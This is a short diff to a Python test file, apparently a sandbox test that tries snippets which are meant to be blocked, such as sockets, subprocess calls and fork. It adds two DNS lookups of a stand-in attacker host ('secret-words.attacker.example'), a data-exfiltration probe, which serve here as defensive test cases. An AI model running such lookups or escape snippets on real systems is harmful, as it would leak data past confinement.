@@ -50,6 +50,8 @@ def attempt(data: Path, code: str, url: str = "sqlite:///x.db") -> subprocess.Co
         "import sqlite3; sqlite3.connect(f'file:{data}/people/people.db?mode=ro', uri=True)",
         "import socket; socket.create_connection(('127.0.0.1', 9), timeout=1)",
         "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
+        "import socket; socket.getaddrinfo('secret-words.attacker.example', 80)",
+        "import socket; socket.gethostbyname('secret-words.attacker.example')",
         "import subprocess; subprocess.run(['true'])",
         "import os; os.system('true')",
         "import os; os.fork()",
